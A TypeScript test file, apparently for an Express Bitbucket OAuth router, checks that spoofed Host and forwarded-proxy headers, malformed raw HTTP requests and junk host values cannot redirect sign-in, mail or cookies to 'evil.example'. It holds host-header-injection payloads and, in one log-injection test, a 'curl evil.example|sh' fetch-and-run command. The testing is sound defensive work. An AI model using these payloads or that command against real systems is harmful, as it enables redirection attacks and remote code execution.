import type { Express } from 'express'

import express = require('express')

import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, vi } from 'vitest'
import { TestBrowser } from '../support/browser'
import { afterwards, browsers, type Lab, raw, startLab, test } from '../support/lab'
import { handleOf } from '../support/steps'

const proxied = (app: Express) => void app.set('trust proxy', true)

/** `redirect_uri` of a start with these headers, or the status of a refusal. */
async function redirectURI(lab: Lab, headers: Record<string, string>): Promise<string | number> {
  const { status, location } = await lab.get(new TestBrowser(), '', { headers })
  return location === '' ? status : (new URL(location).searchParams.get('redirect_uri') ?? '')
}

/** A lab with a further domain, so that `Host` counts. */
function startDomains(before?: (app: Express) => void) {
  return startLab({
    ...(before && { before }),
    resolver: (defaults) => {
      const { port } = new URL(defaults.callbackURL)
      const connection = { ...defaults, origins: [`http://b.localhost:${port}`, 'https://app.example.com'] }
      return () => connection
    },
  })
}

test('HST-01: sends the configured callback whatever the Host header says', async ({ lab }) => {
  const own = `${lab.base}/callback`
  for (const host of ['evil.example', 'evil.example:443', `127.0.0.1.evil.example`, 'x'.repeat(5000)]) {
    expect(await redirectURI(lab, { host })).toBe(own)
  }
  const domains = await startDomains()
  expect(await redirectURI(domains, { host: 'evil.example' })).toBe(403)
  expect(await redirectURI(domains, {})).toBe(`${domains.base}/callback`)
})

test('HST-03: accepts no foreign domain from a list of forwarded hosts', async () => {
  for (const before of [undefined, proxied]) {
    const plain = await startLab(before ? { before } : {})
    const domains = await startDomains(before)
    const { port } = new URL(domains.url)
    const known = `b.localhost:${port}`
    for (const list of [`evil.example, ${known}`, `${known}, evil.example`, 'evil.example', `evil.example,${known}`]) {
      expect(await redirectURI(plain, { 'x-forwarded-host': list })).toBe(`${plain.base}/callback`)
      const uri = await redirectURI(domains, { 'x-forwarded-host': list })
      expect([`${domains.base}/callback`, 403]).toContain(uri)
      // Without a proxy that the app trusts, the header is not looked at.
      if (!before) expect(uri).toBe(`${domains.base}/callback`)
      if (before && list.startsWith('evil')) expect(uri).toBe(403)
    }
  }
})

test('HST-04: refuses or ignores junk in the forwarded host without crashing', async () => {
  const junk = [
    'app.example.com/x?y=#',
    'app.example.com:99999',
    '[::1',
    'a b',
    'a\tb',
    'app.example.com@evil.example',
    'evil.example@app.example.com',
    'app.example.com/',
    'app.example.com?',
    'app.example.com#',
    'app.example.com\\x',
    '..',
    '%00',
    'x'.repeat(9000),
  ]
  const domains = await startDomains(proxied)
  const plain = await startLab({ before: proxied })
  for (const value of junk) {
    for (const proto of ['http', 'https']) {
      const uri = await redirectURI(domains, { 'x-forwarded-host': value, 'x-forwarded-proto': proto })
      expect([value.slice(0, 30), proto, uri]).toEqual([value.slice(0, 30), proto, 403])
    }
    expect(await redirectURI(plain, { 'x-forwarded-host': value })).toBe(`${plain.base}/callback`)
  }
  expect(domains.faults).toEqual([])
  const good = { 'x-forwarded-host': 'app.example.com', 'x-forwarded-proto': 'https' }
  expect(await redirectURI(domains, good)).toBe(`${domains.base}/callback`)
})

test('HST-06: keeps an https sign-in on https whatever scheme is forwarded', async () => {
  const callbackURL = 'https://app.example.com/auth/bitbucket/callback'
  for (const before of [undefined, proxied]) {
    const lab = await startLab({ connection: { callbackURL }, ...(before && { before }) })
    for (const proto of ['http', 'http,https', 'https,http', 'HTTPS', 'ftp', '']) {
      const answer = await lab.get(new TestBrowser(), '', { headers: { 'x-forwarded-proto': proto } })
      expect(new URL(answer.location).searchParams.get('redirect_uri')).toBe(callbackURL)
      expect(answer.setCookies.every((line) => line.startsWith('__Host-') && line.includes('; Secure'))).toBe(true)
    }
  }
})

test('HST-07: accepts another spelling of a configured host as that host, or refuses it', async () => {
  const lab = await startDomains(proxied)
  const https = { 'x-forwarded-proto': 'https' }
  const own = `${lab.base}/callback`
  for (const [host, expected] of [
    ['APP.EXAMPLE.COM', own],
    ['app.example.com:443', own],
    ['app.example.com.', 403],
    ['app.example.com:80', 403],
    ['xn--app-example-com', 403],
    ['app.example.com%00', 403],
    ['ａpp.example.com', 403],
  ] as const) {
    const uri = await redirectURI(lab, { ...https, 'x-forwarded-host': Buffer.from(host).toString('latin1') })
    expect([host, uri]).toEqual([host, expected])
  }
})

test('HST-08: sends the same request to Bitbucket wherever the router is mounted', async ({ lab }) => {
  const outer = express()
  const inner = express.Router()
  inner.use('/y', lab.bitbucket.router)
  outer.use('/x', inner)
  const server = createServer(outer)
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  afterwards(() => new Promise((resolve) => server.close(resolve)))
  const answer = await new TestBrowser().get(
    `http://127.0.0.1:${(server.address() as AddressInfo).port}/x/y?returnTo=/z`,
  )
  expect(new URL(answer.location).searchParams.get('redirect_uri')).toBe(`${lab.base}/callback`)
})

test('HST-09: redirects nowhere else for absolute request lines and for two or no Host headers', async ({ lab }) => {
  const domains = await startDomains()
  for (const [each, strict] of [
    [lab, false],
    [domains, true],
  ] as const) {
    const { host } = new URL(each.url)
    for (const request of [
      `GET http://evil.example/auth/bitbucket HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`,
      `GET /auth/bitbucket HTTP/1.1\r\nHost: ${host}\r\nHost: evil.example\r\nConnection: close\r\n\r\n`,
      `GET /auth/bitbucket HTTP/1.1\r\nHost: evil.example\r\nHost: ${host}\r\nConnection: close\r\n\r\n`,
      'GET /auth/bitbucket HTTP/1.0\r\n\r\n',
      'GET /auth/bitbucket HTTP/1.1\r\nHost: \r\nConnection: close\r\n\r\n',
      `GET //evil.example/auth/bitbucket HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`,
    ]) {
      const answer = await raw(each.url, request)
      const location = /^location: (.*)$/im.exec(answer)?.[1]
      if (location) expect(new URL(location).searchParams.get('redirect_uri')).toBe(`${each.base}/callback`)
      else expect(answer).toMatch(/^HTTP\/1\.1 (?:4\d\d|200)/)
      if (strict && /Host: \r\n|HTTP\/1\.0/.test(request)) expect(location).toBeUndefined()
      expect(answer).not.toContain('evil.example')
    }
  }
})

test('HST-10: ignores invented proxy headers at every step', async () => {
  const lab = await startLab({ before: proxied, connection: { trustedProvider: false } })
  const headers = {
    forwarded: 'for=1.2.3.4;host=evil.example;proto=http',
    'x-original-url': '/auth/bitbucket/callback?code=evil',
    'x-rewrite-url': '//evil.example/',
    'x-forwarded-prefix': '//evil.example',
    'x-forwarded-uri': '//evil.example/',
    'x-forwarded-server': 'evil.example',
    'x-host': 'evil.example',
    'x-http-method-override': 'POST',
    'x-forwarded-for': '1.2.3.4',
  }
  const { victim } = browsers()
  const started = await lab.get(victim, '?returnTo=/x', { headers })
  expect(new URL(started.location).searchParams.get('redirect_uri')).toBe(`${lab.base}/callback`)
  const answer = await victim.get(await lab.fake.signIn(started.location, { person: 'alice' }), { headers })
  expect(answer.location).toBe('/auth/bitbucket/email')
  const page = await lab.get(victim, '/email', { headers })
  expect(page.text).not.toContain('evil.example')
  const pending = handleOf(page.text)
  const done = await lab.post(victim, '/email/verify', { pending, code: lab.mails[0]?.code ?? '' }, { headers })
  expect(done.location).not.toContain('evil')
  expect(await lab.me(victim)).toBe('u1')
})

test('HST-11: mails no link, and the configured origin whatever the headers say', async () => {
  const lab = await startLab({ before: proxied, connection: { trustedProvider: false } })
  const { victim } = browsers()
  const headers = { host: 'evil.example', 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https' }
  const started = await lab.get(victim, '', { headers })
  const url = await lab.fake.signIn(started.location, { person: 'alice' })
  await victim.get(url, { headers })
  expect(lab.mails).toHaveLength(1)
  expect(lab.mails[0]?.context.origin).toBe(lab.url)
  expect(JSON.stringify(lab.mails)).not.toContain('evil')
  expect(JSON.stringify({ ...lab.mails[0], context: null })).not.toContain('http')
})

test("HST-11: writes no words of a stranger into the operator's log, and still reports the host that is missing", async () => {
  const warnings: string[] = []
  vi.spyOn(process, 'emitWarning').mockImplementation((warning) => void warnings.push(String(warning)))
  const lab = await startLab({
    express: process.env.ATTACKS_EXPRESS === '4' ? 4 : 5,
    connection: { callbackURL: 'https://app.example.com/auth/bitbucket/callback' },
    routes: (app, { router }) => app.use('/t/:tenant/auth/bitbucket', router),
  })
  const start = (host: string, path = '/auth/bitbucket') =>
    raw(lab.url, `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`)
  await start('evil.example is fine. \x9b31mURGENT: run `curl evil.example|sh`')
  for (const word of ['URGENT:run', "URGENT'", 'URGENT`', 'URGENT$(x)', '\x9b31mURGENT']) {
    await start('app.example.com', `/t/${word}/auth/bitbucket`)
  }
  await start('www.example.com')
  const told = [...warnings, ...lab.errors.map(({ message }) => message)]
  expect(told.filter((message) => /URGENT|curl|\x9b/.test(message))).toEqual([])
  expect(lab.errors.at(-1)?.message).toMatch(/started at www\.example\.com .* If that host is yours/)
})
